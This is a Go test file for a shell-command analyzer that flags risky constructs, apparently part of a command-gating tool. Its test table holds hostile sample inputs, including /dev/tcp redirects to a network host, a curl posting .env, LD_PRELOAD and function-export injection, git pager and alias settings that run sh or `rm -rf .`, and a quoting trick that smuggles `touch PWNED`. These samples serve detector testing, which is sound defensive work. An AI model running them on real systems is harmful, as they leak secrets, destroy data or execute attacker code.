package parser

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// findings renders an analysis's findings as "line:col rule", sorted.
func findings(a *Analysis) []string {
	var out []string
	for _, f := range a.Findings {
		out = append(out, f.Pos.String()+" "+f.Rule)
	}
	slices.Sort(out)
	return out
}

var testEnv = map[string]string{"HOME": "/home/u"}

// Every row of the table in docs/contract.md, "What is checked",, plain, nested and inside bash -c.
var findingTests = []struct {
	src  string
	want []string
}{
	// command substitution
	{`echo $(id)`, []string{"1:6 parser.command_substitution"}},
	{"echo `id`", []string{"1:6 parser.command_substitution"}},
	{`echo "a $(id)"`, []string{"1:9 parser.command_substitution"}},
	{"echo \"a `id`\"", []string{"1:9 parser.command_substitution"}},
	{"cat <<EOF\nx $(id)\nEOF", []string{"2:3 parser.command_substitution"}},
	{"cat <<EOF\nx `id`\nEOF", []string{"2:3 parser.command_substitution"}},
	{"cat <<'EOF'\nx $(id)\nEOF", nil},
	{"cat <<\"EOF\"\nx $(id)\nEOF", nil},
	{`echo ${x:-$(id)}`, []string{"1:11 parser.command_substitution"}},
	{`echo $(( $(id) + 1 ))`, []string{"1:10 parser.arithmetic_variable", "1:10 parser.command_substitution"}},
	{`echo ${a[$(id)]}`, []string{"1:10 parser.arithmetic_variable", "1:10 parser.command_substitution"}},
	{`[[ -f $(id) ]]`, []string{"1:7 parser.command_substitution"}},
	{`case $(id) in x) ;; esac`, []string{"1:6 parser.command_substitution"}},
	{`case x in $(id)) ;; esac`, []string{"1:11 parser.command_substitution"}},
	{`x=$(id) make`, []string{"1:1 env.unknown", "1:3 parser.command_substitution"}},
	{`export x=$(id)`, []string{"1:10 parser.command_substitution", "1:8 env.unknown"}},
	{`ls > $(id)`, []string{"1:6 parser.command_substitution"}},
	{`for f in $(id); do ls; done`, []string{"1:10 parser.command_substitution"}},
	{`while true; do echo $(id); done`, []string{"1:21 parser.command_substitution"}},
	{`cat <<< "$(id)"`, []string{"1:10 parser.command_substitution"}},
	{`bash -c 'echo $(id)'`, []string{"1:15 parser.command_substitution"}},
	{"bash -c 'echo `id`'", []string{"1:15 parser.command_substitution"}},
	{"bash -c 'ls\necho $(id)'", []string{"2:6 parser.command_substitution"}},
	{`sh -c "echo \$(id)"`, []string{"1:7 parser.command_substitution"}},
	// process substitution, coprocess
	{`diff <(ls) b`, []string{"1:6 parser.process_substitution"}},
	{`ls > >(cat)`, []string{"1:6 parser.process_substitution"}},
	{`if true; then cat <(ls); fi`, []string{"1:19 parser.process_substitution"}},
	{`bash -c 'cat <(ls)'`, []string{"1:14 parser.process_substitution"}},
	{`coproc ls`, []string{"1:1 parser.coprocess"}},
	{`coproc x { ls; }`, []string{"1:1 parser.coprocess"}},
	{`true && { coproc ls; }`, []string{"1:11 parser.coprocess"}},
	{`bash -c 'coproc ls'`, []string{"1:10 parser.coprocess"}},
	// subshell
	{`(ls)`, []string{"1:1 parser.subshell"}},
	{`ls && (cd x; ls)`, []string{"1:7 parser.subshell"}},
	{`for i in 1; do (ls); done`, []string{"1:16 parser.subshell"}},
	{`bash -c '(ls)'`, []string{"1:10 parser.subshell"}},
	// eval and friends
	{`eval ls`, []string{"1:1 parser.eval"}},
	{`source x.sh`, []string{"1:1 parser.eval"}},
	{`. x.sh`, []string{"1:1 parser.eval"}},
	{`alias ls=rm`, []string{"1:1 parser.eval"}},
	{`trap 'rm x' EXIT`, []string{"1:1 parser.eval"}},
	{`enable -f x.so y`, []string{"1:1 parser.eval"}},
	{`bind -x '"\C-a": ls'`, []string{"1:1 parser.eval"}},
	{`complete -C ls x`, []string{"1:1 parser.eval"}},
	{`mapfile -C cb -c 1 a`, []string{"1:1 parser.eval"}},
	{`hash -p /tmp/x ls`, []string{"1:1 parser.eval"}},
	{`declare -n r=PATH`, []string{"1:9 parser.eval"}},
	{`declare "$x"`, []string{"1:9 parser.eval"}},
	{`printf -v 'a[$(id)]' x`, []string{"1:11 parser.arithmetic_variable"}},
	{`read 'a[i]'`, []string{"1:6 parser.arithmetic_variable"}},
	{`if true; then eval ls; fi`, []string{"1:15 parser.eval"}},
	{`echo "${x:-$(eval ls)}"`, []string{"1:12 parser.command_substitution", "1:14 parser.eval"}},
	{`bash -c 'eval ls'`, []string{"1:10 parser.eval"}},
	{`command eval ls`, []string{"1:9 parser.eval"}},
	{`builtin source x`, []string{"1:9 parser.eval"}},
	// function definitions
	{`f() { ls; }`, []string{"1:1 parser.function_definition"}},
	{`function f { ls; }`, []string{"1:1 parser.function_definition"}},
	{`true && f() { ls; }`, []string{"1:9 parser.function_definition"}},
	{`bash -c 'f() { ls; }; f'`, []string{"1:10 parser.function_definition"}},
	// indirect expansion
	{`echo ${!x}`, []string{"1:6 parser.indirect_expansion"}},
	{`echo ${!x[@]}`, []string{"1:6 parser.indirect_expansion"}},
	{`echo ${!pre*}`, []string{"1:6 parser.indirect_expansion"}},
	{`echo ${x@P}`, []string{"1:6 parser.indirect_expansion"}},
	{`echo "${x@P}"`, []string{"1:7 parser.indirect_expansion"}},
	{`echo ${y:-${!x}}`, []string{"1:11 parser.indirect_expansion"}},
	{`bash -c 'echo ${!x}'`, []string{"1:15 parser.indirect_expansion"}},
	{`echo ${x@Q} ${#x} ${x^^}`, nil},
	// arithmetic with variables
	{`echo $((x))`, []string{"1:9 parser.arithmetic_variable"}},
	{`echo $((1+2))`, nil},
	{`echo $(($x+1))`, []string{"1:9 parser.arithmetic_variable"}},
	{`((x++))`, []string{"1:3 parser.arithmetic_variable"}},
	{`((1))`, nil},
	{`let x=1`, []string{"1:5 parser.arithmetic_variable"}},
	{`[[ $x -eq 1 ]]`, []string{"1:4 parser.arithmetic_variable"}},
	{`[[ 2 -gt 1 ]]`, nil},
	{`[[ a -lt 1 ]]`, []string{"1:4 parser.arithmetic_variable"}},
	{`echo ${a[i]}`, []string{"1:10 parser.arithmetic_variable"}},
	{`echo ${a[1]} ${a[@]}`, nil},
	{`echo ${x:o:1}`, []string{"1:10 parser.arithmetic_variable"}},
	{`echo ${x:1:2}`, nil},
	{`a[i]=1`, []string{"1:3 parser.arithmetic_variable"}},
	{`for ((i=0; i<3; i++)); do ls; done`, []string{"1:12 parser.arithmetic_variable", "1:17 parser.arithmetic_variable", "1:7 parser.arithmetic_variable"}},
	{`echo "${x:-$((y))}"`, []string{"1:15 parser.arithmetic_variable"}},
	{"cat <<EOF\n$((y))\nEOF", []string{"2:4 parser.arithmetic_variable"}},
	{`bash -c 'echo $((y))'`, []string{"1:18 parser.arithmetic_variable"}},
	// dynamic command
	{`$CMD x`, []string{"1:1 parser.dynamic_command"}},
	{`"$x"ls`, []string{"1:1 parser.dynamic_command"}},
	{`l* x`, []string{"1:1 parser.dynamic_command"}},
	{`ls && ${x:-rm} y`, []string{"1:7 parser.dynamic_command"}},
	{`sudo $X`, []string{"1:6 parser.dynamic_command"}},
	{`bash -c "$X"`, []string{"1:9 parser.dynamic_command"}},
	{`bash -c '$X'`, []string{"1:10 parser.dynamic_command"}},
	{`for f in a $X; do $f; done`, []string{"1:19 parser.dynamic_command"}},
	{`for f in a; do $f; done`, nil}, // $f is known: the command is a
	// environment injection
	{`PATH=/tmp ls`, []string{"1:1 env.code_injection"}},
	{`LD_PRELOAD=x.so ls`, []string{"1:1 env.code_injection"}},
	{`export BASH_ENV=x`, []string{"1:8 env.code_injection"}},
	{`declare -x GIT_SSH_COMMAND=x`, []string{"1:12 env.code_injection"}},
	{`local PAGER=x`, []string{"1:7 env.code_injection"}},
	{`readonly IFS=x`, []string{"1:10 env.code_injection"}},
	{`env GIT_PAGER=x git log`, []string{"1:5 env.code_injection"}},
	{`env -i NODE_OPTIONS=x node`, []string{"1:8 env.code_injection"}},
	{`sudo PYTHONSTARTUP=x python`, []string{"1:6 env.code_injection"}},
	{`EDITOR=vim`, []string{"1:1 env.code_injection"}},
	{`env 'BASH_FUNC_ls%%=() { id; }' bash -c ls`, []string{"1:5 env.code_injection"}},
	{`GIT_CONFIG_COUNT=1 git log`, []string{"1:1 env.code_injection"}},
	{`if true; then PERL5OPT=x perl; fi`, []string{"1:15 env.code_injection"}},
	{`bash -c 'PROMPT_COMMAND=x bash -c ls'`, []string{"1:10 env.code_injection"}},
	{`FOO=1 BAR=x make`, []string{"1:1 env.unknown", "1:7 env.unknown"}},
	// Only a short list of names is harmless in a program's environment,
	// and only with a value that names no path.
	{`LANG=C.UTF-8 LC_ALL=C TZ=UTC TERM=dumb NO_COLOR=1 CI=true ls`, nil},
	{`LANG=/tmp/loc ls`, []string{"1:1 env.unknown"}},
	{`TZ=:.env date`, []string{"1:1 env.unknown"}},
	{`LANG=$X ls`, []string{"1:1 env.unknown"}},
	{`X=1; ls`, nil}, // a shell variable, not exported
	{`set -a; X=1; ls`, []string{"1:9 env.unknown"}},
	{`X=1; set -a; ls`, []string{"1:1 env.unknown"}}, // sticky: a loop could repeat it
	{`export X=1`, []string{"1:8 env.unknown"}},
	{`export {A,X}=1`, []string{"1:8 env.unknown"}},
	{`declare -x X=1`, []string{"1:12 env.unknown"}},
	{`declare X=1`, nil},
	{`export LANG`, []string{"1:8 env.unknown"}},
	{`GIT_TEST_FSMONITOR=x git status`, []string{"1:1 env.code_injection"}},
	{`GOCACHEPROG=x go build`, []string{"1:1 env.code_injection"}},
	{`CGO_CFLAGS='-wrapper x' go build`, []string{"1:1 env.code_injection"}},
	{`GCCGO=x GOENV=y go build`, []string{"1:1 env.code_injection", "1:9 env.code_injection"}},
	{`GIT_GRAFT_FILE=.env git log`, nil}, // a file reference: see TestEnvFileRefs
	{`bash -c 'set -k'`, []string{"1:14 parser.unsupported"}},
	{`set -P; cd x`, []string{"1:5 parser.unsupported"}},
	{`GIT_TRACE=.cmdguardignore git status`, []string{"1:1 env.code_injection"}},
	{`GIT_TRACE2_EVENT=/x git status`, []string{"1:1 env.code_injection"}},
	{`env GIT_TRACE_PACKET=f git fetch`, []string{"1:5 env.code_injection"}},
	{`GIT_INDEX_FILE=i git add .`, []string{"1:1 env.code_injection"}},
	{`GIT_OBJECT_DIRECTORY=o GIT_ALLOW_PROTOCOL=ext git log`, []string{"1:1 env.code_injection", "1:24 env.code_injection"}},
	{`GIT_AUTHOR_NAME=x git commit`, nil},
	{`CGO_ENABLED=0 GOOS=linux go build`, nil},
	{`GIT_AUTHOR_DATE=x git commit`, []string{"1:1 env.unknown"}},
	{`read PATH < f`, []string{"1:6 env.code_injection"}},
	{`printf -v LD_PRELOAD %s x.so`, []string{"1:11 env.code_injection"}},
	{`for PATH in /tmp; do ls; done`, []string{"1:5 env.code_injection"}},
	{`echo ${IFS:=x}`, []string{"1:6 env.code_injection"}},
	{`unset PATH`, nil},
	{`declare -i n=1`, []string{"1:9 parser.arithmetic_variable"}},
	{`export {PATH,X}=/tmp/e`, []string{"1:8 env.code_injection", "1:8 env.unknown"}},
	{`env {LD_PRELOAD,X}=/tmp/e ls`, []string{"1:5 env.code_injection", "1:5 env.unknown"}},
	// globs the gate cannot expand as bash does
	{`cat .e[[=n=]]v`, []string{"1:5 parser.unsupported"}},
	{`cat .e[[.n.]]v`, []string{"1:5 parser.unsupported"}},
	{`cat .e[[:foo:]n]v`, []string{"1:5 parser.unsupported"}},
	{`cat .en[z-a]v`, []string{"1:5 parser.unsupported"}},
	{`cat .e[[=n]v`, []string{"1:5 parser.unsupported"}},
	{`cat .e[n/]v`, []string{"1:5 parser.unsupported"}},
	{`cat .e[[:alpha:]]v .e[a-z]v .e[!a-m]v .e[]n]v .e["n"]v x[`, nil},
	// zsh reads these differently
	{`=curl -d @.env x`, []string{"1:1 parser.not_portable"}},
	{`zsh -c '=curl x'`, []string{"1:9 parser.not_portable"}},
	{`cat *(e:id:)`, []string{"1:5 parser.not_portable"}},
	{`x=.e*; cat $~x`, []string{"1:12 parser.not_portable"}},
	{`echo =$x`, []string{"1:6 parser.not_portable"}},
	{`shopt -so allexport; X=1`, []string{"1:22 env.unknown"}},
	{`set -a; for MAGIC in .env; do file x; done`, []string{"1:13 env.unknown"}},
	{`set -a; read MAGIC < f; printf -v LANG %s C`, []string{"1:14 env.unknown"}},
	{`setopt extendedglob; cat ^src`, []string{"1:26 parser.not_portable"}},
	{`setopt extendedglob; cat sub/^public.txt`, []string{"1:26 parser.not_portable"}},
	{`set -o extendedglob; cat .en#v`, []string{"1:26 parser.not_portable"}},
	{`zsh -o extendedglob -c 'cat sub/p*~*public*'`, []string{"1:29 parser.not_portable"}},
	{`cat deep/**/k.s*`, []string{"1:5 parser.not_portable"}},
	{`git log HEAD~1 HEAD^ -- '^x' "=y"; [ a = b ]; echo a=b # c`, nil},
	// line break look-alikes
	{"ls\recho", []string{"1:3 parser.line_break_lookalike"}},
	{"ls\u2028echo", []string{"1:3 parser.line_break_lookalike"}},
	{"ls\u2029echo", []string{"1:3 parser.line_break_lookalike"}},
	{"ls\u0085echo", []string{"1:3 parser.line_break_lookalike"}},
	{"echo 'a\rb' \"c\u2028d\"", nil},
	{"ls # \r hidden", []string{"1:6 parser.line_break_lookalike"}},
	{"bash -c 'ls\u2028x'", []string{"1:12 parser.line_break_lookalike"}},
	{"ls\r\n", []string{"1:3 parser.line_break_lookalike"}},
	{"ls\vx", []string{"1:3 parser.line_break_lookalike"}},
	{"ls\fx", []string{"1:3 parser.line_break_lookalike"}},
	{"echo 'safe\x1b[1A' x", []string{"1:11 parser.unsupported"}},
	{"echo a\x00; rm x", []string{"1:7 parser.unsupported"}},
	{"echo \u0080", []string{"1:6 parser.unsupported"}},
	{"echo '\u202e'txt.exe", []string{"1:7 parser.unsupported"}},
	{"echo 'ünïcode ok'", nil},
	{"cat <<EOF; echo \"a\rb\" \r x\nbody\rx\nEOF", []string{"1:23 parser.line_break_lookalike"}},
	// redirects
	{`ls > /dev/tcp/1.2.3.4/80`, []string{"1:6 redirect.network"}},
	{`cat < /dev/udp/h/53`, []string{"1:7 redirect.network"}},
	{`bash -c 'echo x >/dev/tcp/h/1'`, []string{"1:18 redirect.network"}},
	{`ls 2>&1 >/dev/null`, nil},
	// syntax, empty
	{`ls |`, []string{"1:4 parser.syntax"}},
	{`echo "unterminated`, []string{"1:6 parser.syntax"}},
	{`bash -c 'ls |'`, []string{"1:13 parser.syntax"}},
	{``, []string{"0:0 parser.empty"}},
	{"# comment only\n", []string{"0:0 parser.empty"}},
	{"  \n\n", []string{"0:0 parser.empty"}},
	// git
	{`git -c core.pager=sh log`, []string{"1:8 git.dangerous_config"}},
	{`git -c alias.x='!sh' x`, []string{"1:8 git.dangerous_config"}},
	{`git -c diff.foo.textconv=x diff`, []string{"1:8 git.dangerous_config"}},
	{`git -c core.sshCommand=x fetch`, []string{"1:8 git.dangerous_config"}},
	{`git -c user.name=x commit`, nil},
	{`git -ccore.pager=sh log`, []string{"1:5 git.dangerous_config"}},
	{`git -c imap.tunnel=sh imap-send`, []string{"1:8 git.dangerous_config"}},
	{`git -c help.autocorrect=1 psuh`, []string{"1:8 git.dangerous_config"}},
	{`git config --global core.pager 'sh -c x'`, []string{"1:21 git.dangerous_config"}},
	{`git config set alias.st '!rm -rf .'`, []string{"1:16 git.dangerous_config"}},
	{`git config --get core.pager`, nil},
	{`git --exec-path=/tmp log`, []string{"1:5 git.dangerous_config"}},
	{`git --config-env=core.pager=P log`, []string{"1:5 git.dangerous_config"}},
	{`git $X status`, []string{"1:5 parser.dynamic_command"}},
	{`ls | parallel`, []string{"1:6 parser.dynamic_command"}},
	{`exec 3<>/dev/tcp/h/80`, []string{"1:9 redirect.network"}},
	{`cat < /dev/{tcp,x}/h/80`, []string{"1:7 redirect.network"}},
	{`echo $(id) > {a,$(id)}`, []string{"1:14 parser.command_substitution", "1:6 parser.command_substitution"}},
	{`git config user.email a@b.c`, nil},
	{`bash -c 'git -c core.fsmonitor=x status'`, []string{"1:17 git.dangerous_config"}},
	// more nesting: loop bodies and heredoc bodies
	{`for i in 1; do f() { :; }; done`, []string{"1:16 parser.function_definition"}},
	{`if true; then ls >/dev/tcp/h/1; fi`, []string{"1:19 redirect.network"}},
	{"cat <<EOF\n${!x}\nEOF", []string{"2:1 parser.indirect_expansion"}},
	{`while true; do $CMD; done`, []string{"1:16 parser.dynamic_command"}},
	{`while true; do (ls); done`, []string{"1:16 parser.subshell"}},
	{"cat <<EOF\n$(eval x)\nEOF", []string{"2:1 parser.command_substitution", "2:3 parser.eval"}},
	{"cat <<EOF\n<(ls) (x) \\$(y)\nEOF", nil},
	{"bash -c \"ls\n(ls)\"", []string{"2:1 parser.subshell"}},
	{"bash -c 'ls' && bash -c \"x \\\"\\$(id)\\\"\"", []string{"1:25 parser.command_substitution"}},
	// brace expansion happens first, on the raw text, as in bash
	{`x=5; echo {$,}[x]`, []string{"1:11 parser.arithmetic_variable"}},
	{`{e,}val x`, []string{"1:1 parser.eval"}},
	{`echo {$,}{'$(id)',}`, nil},
	{`echo {a,b}$(id)`, []string{"1:6 parser.command_substitution"}},
	// sh may be dash, where $'…' and $"…" are not quotes
	{`sh -c "echo \$'\\' ; touch PWNED ; echo '\\'"`, []string{"1:7 parser.unsupported"}},
	{`dash -c 'echo $"x"'`, []string{"1:9 parser.unsupported"}},
	{`busybox sh -c "echo \$'a'"`, []string{"1:15 parser.unsupported"}},
	{`find . -exec sh -c 'echo $'"'"'x'"'" {} +`, []string{"1:20 parser.unsupported"}},
	{`bash -c "echo \$'a'" && zsh -c "echo \$'a'"`, nil},
	{`sh -c 'echo "$a"'`, nil},
	// plain words are fine
	{`echo $HOME ${x:-lit} ~ $'\x41' {a,b} *.go "$x"`, nil},
	{`ls -la && go test ./... 2>&1 | tail -n 50`, nil},
}

func TestFindings(t *testing.T) {
	t.Parallel()
	for _, tc := range findingTests {
		t.Run(tc.src, func(t *testing.T) {
			t.Parallel()
			got := findings(Analyze(tc.src, Options{Cwd: "/repo", Env: testEnv}))
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Analyze(%q) findings mismatch (-want +got):\n%s", tc.src, diff)
			}
		})
	}
}
